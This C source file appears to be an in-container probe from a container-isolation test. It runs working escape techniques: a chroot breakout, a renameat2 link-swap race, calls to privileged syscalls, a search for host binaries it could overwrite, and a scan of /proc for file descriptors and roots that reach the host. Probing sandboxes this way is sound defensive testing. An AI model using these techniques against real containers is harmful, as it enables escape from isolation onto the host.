/*
 * The part of an attack that runs inside a container. Its first argument says what it does.
 *
 * It is linked statically, because it runs in containers that have no libraries. It ends by itself after a minute.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/magic.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <sys/time.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static void print_file(const char *path) {
    char buffer[256];
    int file = open(path, O_RDONLY);
    ssize_t length = file < 0 ? -1 : read(file, buffer, sizeof buffer);
    if (length > 0 && write(1, buffer, length) < 0)
        exit(1);
}

/* Exchange a directory and a link as fast as possible. */
static int exchange(const char *one, const char *two) {
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE) && errno != ENOENT)
            return perror("exchange"), 1;
}

/* Create directories inside each other. */
static int nest(long count) {
    while (count-- > 0)
        if (mkdir("d", 0755) || chdir("d"))
            return perror("nest"), 1;
    return 0;
}

/* Leave a change of the root directory, as a program can that may call chroot. */
static int leave_root(const char *path) {
    int step;
    mkdir("/jail", 0755);
    if (chroot("/jail"))
        return perror("chroot"), 1;
    for (step = 0; step < 64; step++)
        if (chdir(".."))
            break;
    if (chroot("."))
        return perror("chroot"), 1;
    print_file(path);
    return 0;
}

/* Read from a socket whose name is not in the file system. */
static int connect_abstract(const char *name) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    char buffer[256];
    int client = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    if (connect(client, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)))
        return perror("connect"), 1;
    ssize_t length = read(client, buffer, sizeof buffer);
    return length > 0 && write(1, buffer, length) < 0;
}

static void report(const char *name, long result) {
    if (result < 0 && (errno == EPERM || errno == ENOSYS || errno == EACCES))
        return;
    printf("allowed: %s (%s)\n", name, result < 0 ? strerror(errno) : "done");
}

/* Try system calls that only the machine's administrator should be able to use, and print those that are allowed. */
static int try_system_calls(void) {
    struct { unsigned bytes; int type; unsigned char handle[8]; } handle = {8, 1, {2}};
    struct timespec when = {.tv_nsec = -1};
    report("add_key", syscall(SYS_add_key, "user", "attack", "x", 1, -2));
    report("keyctl", syscall(SYS_keyctl, 0, -3, 0));
    report("request_key", syscall(SYS_request_key, "user", "attack", NULL, 0));
    report("bpf", syscall(SYS_bpf, -1, NULL, 0));
    report("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
    report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY));
    report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, -1));
    report("init_module", syscall(SYS_init_module, NULL, 0, ""));
    report("delete_module", syscall(SYS_delete_module, "attack", 0));
    report("swapon", syscall(SYS_swapon, "/none", 0));
    report("acct", syscall(SYS_acct, "/none"));
    report("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, &when));
    report("reboot", syscall(SYS_reboot, 1, 2, 3, NULL));
    report("userfaultfd", syscall(SYS_userfaultfd, -1));
    report("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
    report("umount2", umount2("/proc", MNT_DETACH));
    report("pivot_root", syscall(SYS_pivot_root, "/", "/"));
    report("setns", setns(open("/proc/self/ns/uts", O_RDONLY), 0));
    report("unshare of mounts", unshare(CLONE_NEWNS));
    report("unshare of users", unshare(CLONE_NEWUSER));
    puts("tried");
    return 0;
}

/* Keep the programs of other processes open, and see after their end which of them can be written to. */
static int watch_programs(long seconds) {
    struct { dev_t device; ino_t inode; int file; } seen[64];
    struct stat own, shell, info;
    char path[64], target[256];
    int count = 0, number;
    time_t end = time(NULL) + seconds;
    if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &shell))
        return perror("stat"), 1;
    puts("watching");
    fflush(stdout);
    while (time(NULL) < end) {
        DIR *processes = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(processes))) {
            snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
            int file = entry->d_name[0] >= '1' && entry->d_name[0] <= '9' ? open(path, O_RDONLY) : -1;
            if (file < 0)
                continue;
            fstat(file, &info);
            for (number = 0; number < count; number++)
                if (seen[number].inode == info.st_ino && seen[number].device == info.st_dev)
                    break;
            if (number < count || count == 64 || info.st_ino == own.st_ino || info.st_ino == shell.st_ino) {
                close(file);
                continue;
            }
            seen[count].device = info.st_dev, seen[count].inode = info.st_ino, seen[count++].file = file;
        }
        closedir(processes);
    }
    for (number = 0; number < count; number++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", seen[number].file);
        ssize_t length = readlink(path, target, sizeof target - 1);
        int file = open(path, O_WRONLY), seals = file < 0 ? 0 : fcntl(file, F_GET_SEALS);
        if (file >= 0 && (seals < 0 || !(seals & F_SEAL_WRITE)))
            printf("writable: %.*s\n", (int)length, target);
    }
    printf("watched %d\n", count);
    return 0;
}

/*
 * Tell whether an open file of a process leads to the host, and get its name. It doesn't if it is in a /proc that is
 * mounted nowhere, or is the program that the process runs, on a file system to which nobody can write.
 */
static int leads_to_host(const struct stat *program, const char *path, char *target, size_t size) {
    struct stat info;
    struct statfs system;
    char name[64];
    int file = open(path, O_PATH), leads = 0;
    if (file < 0)
        return 0;
    snprintf(name, sizeof name, "/proc/self/fd/%d", file);
    ssize_t length = readlink(name, target, size - 1);
    target[length < 0 ? 0 : length] = 0;
    if (target[0] == '/' && strncmp(target, "/dev/", 5) && strncmp(target, "/proc/", 6) && access(target, F_OK)) {
        int is_proc = !fstatfs(file, &system) && system.f_type == PROC_SUPER_MAGIC;
        int is_program = !fstat(file, &info) && info.st_dev == program->st_dev && info.st_ino == program->st_ino;
        leads = !is_proc && (!is_program || !access(name, W_OK));
    }
    close(file);
    return leads;
}

/* Look through the processes that appear for their root directories, open files and programs. */
static int look_into_processes(long seconds, const char *file) {
    static const char *const places[] = {"root", "cwd"};
    char path[512], target[256];
    struct stat program;
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end) {
        int process, descriptor;
        for (process = 2; process < 300; process++) {
            for (descriptor = 0; descriptor < 2; descriptor++) {
                snprintf(path, sizeof path, "/proc/%d/%s%s", process, places[descriptor], file);
                if (!access(path, F_OK))
                    return printf("reached: %s\n", path), print_file(path), 0;
            }
            snprintf(path, sizeof path, "/proc/%d/exe", process);
            if (stat(path, &program))
                continue;
            for (descriptor = 3; descriptor < 32; descriptor++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", process, descriptor);
                if (leads_to_host(&program, path, target, sizeof target))
                    return printf("reached: %s is %s\n", path, target), 0;
            }
        }
    }
    return puts("looked"), 0;
}

int main(int count, char **arguments) {
    const char *action = count > 1 ? arguments[1] : "", *first = count > 2 ? arguments[2] : "";
    alarm(60);
    if (!strcmp(action, "exchange") && count > 3)
        return exchange(first, arguments[3]);
    if (!strcmp(action, "nest"))
        return nest(atol(first));
    if (!strcmp(action, "leave-root"))
        return leave_root(first);
    if (!strcmp(action, "connect"))
        return connect_abstract(first);
    if (!strcmp(action, "system-calls"))
        return try_system_calls();
    if (!strcmp(action, "watch-programs"))
        return watch_programs(atol(first));
    if (!strcmp(action, "look-into-processes") && count > 3)
        return look_into_processes(atol(first), arguments[3]);
    fprintf(stderr, "unknown action: %s\n", action);
    return 2;
}
